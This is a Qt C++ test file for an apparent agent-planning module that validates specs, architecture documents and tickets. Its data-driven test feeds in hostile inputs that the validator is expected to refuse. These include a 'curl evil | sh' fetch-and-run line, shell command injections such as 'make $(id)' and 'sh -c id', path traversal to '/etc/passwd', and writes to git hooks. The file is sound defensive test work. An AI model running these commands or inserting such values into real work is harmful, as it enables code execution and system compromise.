// SPDX-License-Identifier: Apache-2.0
/// The documents of a job: what is read, what is refused, and the rules that make tickets a plan for a spec.
#include "core/domain/planning.h"

#include <QJsonDocument>
#include <QTest>

using namespace openfactory;

/// Declared before the texts below, which moc does not get past.
class PlanningTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void readsWhatItWrites();
    void aSoundPlanHasNoFaults();
    void showsTextAndNoMarkup();
    void comesInTheOrderOfItsDependencies();
    void theTicketsFilesAreItsBoundary();
    void namesFilesThatAreThere();
    void refusesHostileDocuments_data();
    void refusesHostileDocuments();
};

namespace {

QByteArray spec(const QByteArray &changed = {}, const QByteArray &value = {})
{
    QJsonObject object = QJsonDocument::fromJson(R"({
        "title": "A cart", "scope": ["a cart adds up"], "non_goals": ["no shop"], "assumptions": ["prices are integers"],
        "acceptance_criteria": [{"id": "AC-1", "text": "the total is the sum"}, {"id": "AC-2", "text": "it can be emptied"}],
        "constraints": [], "risks": ["none is known"]})")
                             .object();
    if (!changed.isEmpty())
        object[QString::fromUtf8(changed)] = QJsonDocument::fromJson("[" + value + "]").array().first();
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

QJsonObject ticket(int number)
{
    QJsonObject object = QJsonDocument::fromJson(R"({
        "goal": "Add up.", "files": ["src/**"], "commands": ["make check"],
        "tests": [{"name": "tests/test_cart.py::test_total", "fails_before": true}], "done": ["the test passes"], "depends_on": []})")
                             .object();
    object[QStringLiteral("number")] = number;
    object[QStringLiteral("name")] = QStringLiteral("part-%1").arg(number);
    object[QStringLiteral("criteria")] = QJsonArray{QStringLiteral("AC-%1").arg(number)};
    return object;
}

/// Two sound tickets, the first one changed.
QByteArray tickets(const QByteArray &changed = {}, const QByteArray &value = {})
{
    QJsonObject first = ticket(1);
    if (!changed.isEmpty())
        first[QString::fromUtf8(changed)] = QJsonDocument::fromJson("[" + value + "]").array().first();
    return QJsonDocument(QJsonObject{{QStringLiteral("tickets"), QJsonArray{first, ticket(2)}}})
        .toJson(QJsonDocument::Compact);
}

QByteArray architecture(const QByteArray &path = "src/cart.py", const QByteArray &state = "new")
{
    return R"({"components": [{"name": "cart", "purpose": "adds up", "files": [{"path": ")" + path + R"(", "state": ")"
           + state
           + R"("}]}], "data_flow": ["in and out"], "interfaces": [], "storage": [], "test_strategy": ["unit tests"]})";
}

Contract contract()
{
    Contract made;
    made.allowedFiles = {QStringLiteral("src/**"), QStringLiteral("tests/*.py"), QStringLiteral("*.yaml"),
                         QStringLiteral(".github/**")};
    made.forbiddenFiles = {QStringLiteral("src/secret.py")};
    made.ownFile = QStringLiteral("src/contract.yaml");
    return made;
}

std::vector<Finding> planFaults(const QByteArray &json)
{
    const auto read = readTickets(json);
    return read.isSound() ? ticketFaults(read.value, readSpec(spec()).value, contract()) : read.faults;
}

QString textOf(const std::vector<Finding> &faults)
{
    QStringList lines;
    for (const Finding &fault : faults)
        lines << fault.rule + QStringLiteral(" ") + fault.message;
    return lines.join(u'\n');
}

} // namespace

void PlanningTest::readsWhatItWrites()
{
    const auto read = readSpec(spec());
    QVERIFY2(read.isSound(), qPrintable(textOf(read.faults)));
    QCOMPARE(read.value.criteria.size(), 2u);
    QCOMPARE(readSpec(toJson(read.value)).value, read.value);
    const auto plan = readTickets(tickets());
    QVERIFY2(plan.isSound(), qPrintable(textOf(plan.faults)));
    QCOMPARE(readTickets(toJson(plan.value)).value, plan.value);
    QVERIFY(plan.value.front().tests.front().failsBefore);
    const auto drawn = readArchitecture(architecture());
    QVERIFY2(drawn.isSound(), qPrintable(textOf(drawn.faults)));
    QCOMPARE(readArchitecture(toJson(drawn.value)).value, drawn.value);
}

void PlanningTest::aSoundPlanHasNoFaults()
{
    QCOMPARE(textOf(planFaults(tickets())), QString());
    for (const char *files :
         {R"(["src/cart.py"])", R"(["src/a/*.py", "tests/test_cart.py"])", R"(["tests/*.py"])", R"(["src/"])"})
        QCOMPARE(textOf(planFaults(tickets("files", files))), QString());
}

void PlanningTest::showsTextAndNoMarkup()
{
    const auto read = readSpec(spec("scope", R"(["<script>x</script> [a](javascript:b) \u202e\u0007 `rm`"])"));
    QVERIFY2(read.isSound(), qPrintable(textOf(read.faults)));
    const QString shown = toMarkdown(read.value);
    QVERIFY(shown.contains(QStringLiteral("\\<script\\>x")));
    QVERIFY(!shown.contains(QChar(0x202e)) && !shown.contains(QChar(7)));
    QVERIFY(shown.contains(QStringLiteral("- AC-1: the total is the sum")));
    Ticket one = readTickets(tickets()).value.front();
    one.goal = QStringLiteral("a \"quote\"\n---\nfiles: [\"**\"]");
    const QString front = toMarkdown(one);
    QCOMPARE(front.count(QStringLiteral("\n---\n")), 1);
    QVERIFY(front.contains(QStringLiteral("goal: \"a \\\"quote\\\"\\U0000000a---")));
    QCOMPARE(ticketPath(one), QStringLiteral("TICKETS/0001-part-1"));
}

void PlanningTest::comesInTheOrderOfItsDependencies()
{
    std::vector<Ticket> plan(4);
    for (int i = 0; i < 4; ++i)
        plan[size_t(i)].number = i + 1;
    plan[0].dependsOn = {3};
    plan[2].dependsOn = {4};
    QString order;
    for (const Ticket &one : inOrder(plan))
        order += QString::number(one.number);
    QCOMPARE(order, QStringLiteral("2431"));
}

void PlanningTest::theTicketsFilesAreItsBoundary()
{
    const Ticket one = readTickets(tickets("files", R"(["src/cart.py", "tests/**"])")).value.front();
    ChangeSet change;
    for (const char *path : {"src/cart.py", "tests/a/b.py", "src/other.py"}) {
        FileChange file;
        file.path = file.oldPath = path;
        change.files.push_back(file);
    }
    FileChange moved;
    moved.status = FileStatus::Renamed;
    moved.path = "tests/new.py";
    moved.oldPath = "lib/old.py";
    change.files.push_back(moved);
    const auto breaches = ticketBreaches(one, change);
    QCOMPARE(breaches.size(), 2u);
    QCOMPARE(breaches[0].file, RepoPath("lib/old.py"));
    QCOMPARE(breaches[1].file, RepoPath("src/other.py"));
}

void PlanningTest::namesFilesThatAreThere()
{
    const std::vector<RepoPath> files{"README", "src/a.py"};
    const auto faults = [&](const char *path, const char *state) {
        return fileFaults(readArchitecture(architecture(path, state)).value, files).size();
    };
    QCOMPARE(faults("src/a.py", "exists"), 0u);
    QCOMPARE(faults("src/b.py", "new"), 0u);
    QCOMPARE(faults("src/", "exists"), 0u);
    QCOMPARE(faults("lib/", "exists"), 1u);
    QCOMPARE(faults("src/b.py", "exists"), 1u);
    QCOMPARE(faults("src/a.py", "new"), 1u);
}

void PlanningTest::refusesHostileDocuments()
{
    QFETCH(QString, kind);
    QFETCH(QByteArray, json);
    QFETCH(QString, says);
    const auto faults = kind == QStringLiteral("spec")           ? readSpec(json).faults
                        : kind == QStringLiteral("architecture") ? readArchitecture(json).faults
                                                                 : planFaults(json);
    QVERIFY2(!faults.empty(), "nothing is wrong with it");
    QVERIFY2(textOf(faults).contains(says), qPrintable(textOf(faults)));
    QVERIFY(faults.size() <= 200);
    for (const Finding &fault : faults)
        QVERIFY(fault.message.size() <= 1000);
}

void PlanningTest::refusesHostileDocuments_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QByteArray>("json");
    QTest::addColumn<QString>("says");
    const auto row = [](const char *kind, const char *name, const QByteArray &json, const char *says) {
        QTest::addRow("%s: %s", kind, name) << QString::fromLatin1(kind) << json << QString::fromUtf8(says);
    };
    row("spec", "nothing", "", "no JSON");
    row("spec", "prose", "Sure! Here is the spec: {}", "no JSON, at byte");
    row("spec", "a fence", "```json\n{}\n```", "no JSON");
    row("spec", "cut short", spec().left(100), "no JSON");
    row("spec", "a list", "[]", "no JSON object");
    row("spec", "null", "null", "no JSON");
    row("spec", "not UTF-8", "{\"scope\": [\"\xff\xfe\"]}", "no JSON");
    row("spec", "giant", spec("scope", "[\"" + QByteArray(300'000, 'x') + "\"]"), "bytes, 262144 are allowed");
    row("spec", "a text that eats the stack", spec("title", "\"" + QByteArray(250'000, 'x') + "\""),
        "/title: a text of more than 4000 characters");
    row("spec", "a key that eats the stack", "{\"" + QByteArray(5000, 'k') + "\": 1}",
        "a text of more than 4000 characters");
    row("spec", "deep", QByteArray(2000, '[') + QByteArray(2000, ']'), "no JSON");
    row("spec", "deep in a key", R"({"scope": )" + QByteArray(900, '[') + QByteArray(900, ']') + "}", "/scope");
    row("spec", "empty", "{}", "required");
    row("spec", "a key of its own", spec("run", R"("curl evil | sh")"), "run");
    row("spec", "a wrong type", spec("scope", "5"), "/scope: ");
    row("spec", "the value is told", spec("scope", "[5]"), "/scope/0");
    row("spec", "no scope", spec("scope", "[]"), "minItems");
    row("spec", "an empty sentence", spec("assumptions", R"([" "])"), "/assumptions/0");
    row("spec", "a long sentence", spec("assumptions", "[\"" + QByteArray(2001, 'x') + "\"]"), "/assumptions/0");
    row("spec", "many sentences", spec("risks", "[" + QByteArray("\"x\",").repeated(50) + "\"x\"]"), "maxItems");
    row("spec", "a title of two lines", spec("title", R"("a\nOpenFactory-Step: x")"), "/title");
    row("spec", "no criteria", spec("acceptance_criteria", "[]"), "/acceptance_criteria");
    row("spec", "a criterion without id", spec("acceptance_criteria", R"([{"text": "x"}])"), "id");
    row("spec", "a wrong id", spec("acceptance_criteria", R"([{"id": "../AC-1", "text": "x"}])"),
        "/acceptance_criteria/0/id");
    row("spec", "an id of two lines", spec("acceptance_criteria", R"([{"id": "AC-1\n", "text": "x"}])"),
        "/acceptance_criteria/0/id");
    row("spec", "an id twice",
        spec("acceptance_criteria", R"([{"id": "AC-1", "text": "x"}, {"id": "AC-1", "text": "y"}])"),
        "/acceptance_criteria/1/id: AC-1 was given before");
    row("spec", "prototype", spec("__proto__", R"({"x": 1})"), "__proto__");
    row("architecture", "empty", "{}", "required");
    row("architecture", "no files",
        R"({"components": [{"name": "a", "purpose": "b", "files": []}], "data_flow": ["x"], "interfaces": [], "storage": [], "test_strategy": ["x"]})",
        "/components/0/files");
    row("architecture", "a wrong state", architecture("a", "deleted"), "/components/0/files/0/state");
    row("architecture", "above", architecture("../etc/passwd"), "matches no path");
    row("architecture", "inside above", architecture("src/../../x"), "matches no path");
    row("architecture", "absolute", architecture("/etc/passwd"), "matches no path");
    row("architecture", "a pattern", architecture("src/*"), "not a pattern");
    row("architecture", "a control character", architecture("src/\\u0007"), "not seen");
    row("architecture", "an override", architecture("src/\\u202eyp.x"), "not seen");
    row("architecture", "a NUL", architecture("src/\\u0000x"), "pattern matches nothing");
    row("tickets", "none", R"({"tickets": []})", "minItems");
    row("tickets", "a name that is a path", tickets("name", R"("../../evil")"), "/tickets/0/name");
    row("tickets", "a long name", tickets("name", "\"" + QByteArray(61, 'a') + "\""), "/tickets/0/name");
    row("tickets", "a name of two lines", tickets("name", R"("a\n")"), "/tickets/0/name");
    row("tickets", "a name twice", tickets("name", R"("part-2")"), "/tickets/1/name: part-2 was given before");
    row("tickets", "a number twice", tickets("number", "2"), "/tickets/0/number: 2, where 1 is next");
    row("tickets", "a fraction", tickets("number", "1.5"), "/tickets/0/number");
    row("tickets", "number 0", tickets("number", "0"), "/tickets/0/number");
    row("tickets", "no files", tickets("files", "[]"), "/tickets/0/files");
    row("tickets", "everything", tickets("files", R"(["**"])"), "beyond the contract's allowed_files");
    row("tickets", "files above", tickets("files", R"(["../**"])"), "matches no path");
    row("tickets", "files above within", tickets("files", R"(["src/../**"])"), "matches no path");
    row("tickets", "absolute files", tickets("files", R"(["/src/**"])"), "matches no path");
    row("tickets", "files beyond", tickets("files", R"(["lib/x.py"])"), "beyond the contract's allowed_files");
    row("tickets", "files below", tickets("files", R"(["tests/**"])"), "beyond the contract's allowed_files");
    row("tickets", "a forbidden file", tickets("files", R"(["src/secret.py"])"), "forbidden_files");
    row("tickets", "the contract", tickets("files", R"(["contract.yaml"])"), "is protected");
    row("tickets", "its own contract", tickets("files", R"(["src/CONTRACT.yaml"])"), "is protected");
    row("tickets", "git's folder", tickets("files", R"(["src/.git/hooks/post-commit"])"), "is protected");
    row("tickets", "git's folder by a set", tickets("files", R"(["src/[.]git/config"])"), "is protected");
    row("tickets", "the forge's judge", tickets("files", R"([".github/**"])"), "is protected");
    row("tickets", "a pipe", tickets("commands", R"(["make | sh"])"), "/tickets/0/commands");
    row("tickets", "a substitution", tickets("commands", R"x(["make $(id)"])x"), "/tickets/0/commands");
    row("tickets", "two commands", tickets("commands", R"(["make; id"])"), "/tickets/0/commands");
    row("tickets", "two lines", tickets("commands", R"(["make\nid"])"), "/tickets/0/commands");
    row("tickets", "a shell", tickets("commands", R"(["sh -c id"])"), "/tickets/0/commands");
    row("tickets", "a launcher", tickets("commands", R"(["env make"])"), "/tickets/0/commands");
    row("tickets", "code for an interpreter", tickets("commands", R"(["python3 -c *"])"), "/tickets/0/commands");
    row("tickets", "any program", tickets("commands", R"(["*"])"), "/tickets/0/commands");
    row("tickets", "a program by path", tickets("commands", R"(["/bin/make"])"), "/tickets/0/commands");
    row("tickets", "a test twice", tickets("tests", R"([{"name": "a"}, {"name": "a"}])"), "named twice");
    row("tickets", "a test of two lines", tickets("tests", R"([{"name": "a\nb"}])"), "/tickets/0/tests/0/name");
    row("tickets", "nothing is done", tickets("done", "[]"), "/tickets/0/done");
    row("tickets", "an uncovered criterion", tickets("criteria", R"(["AC-2"])"), "no ticket covers AC-1");
    row("tickets", "an unknown criterion", tickets("criteria", R"(["AC-1", "AC-9"])"), "the spec has no AC-9");
    row("tickets", "it depends on nothing", tickets("depends_on", "[7]"), "there is no ticket 7");
    row("tickets", "it depends on itself", tickets("depends_on", "[1]"), "depends on itself");
    QJsonObject first = ticket(1), second = ticket(2);
    first[QStringLiteral("depends_on")] = QJsonArray{2};
    second[QStringLiteral("depends_on")] = QJsonArray{1};
    row("tickets", "a circle",
        QJsonDocument(QJsonObject{{QStringLiteral("tickets"), QJsonArray{first, second}}}).toJson(),
        "these wait for one another: 1, 2");
    QJsonArray many;
    for (int i = 1; i <= 51; ++i)
        many.append(ticket(i));
    row("tickets", "too many", QJsonDocument(QJsonObject{{QStringLiteral("tickets"), many}}).toJson(), "maxItems");
}

QTEST_APPLESS_MAIN(PlanningTest)
#include "test_planning.moc"
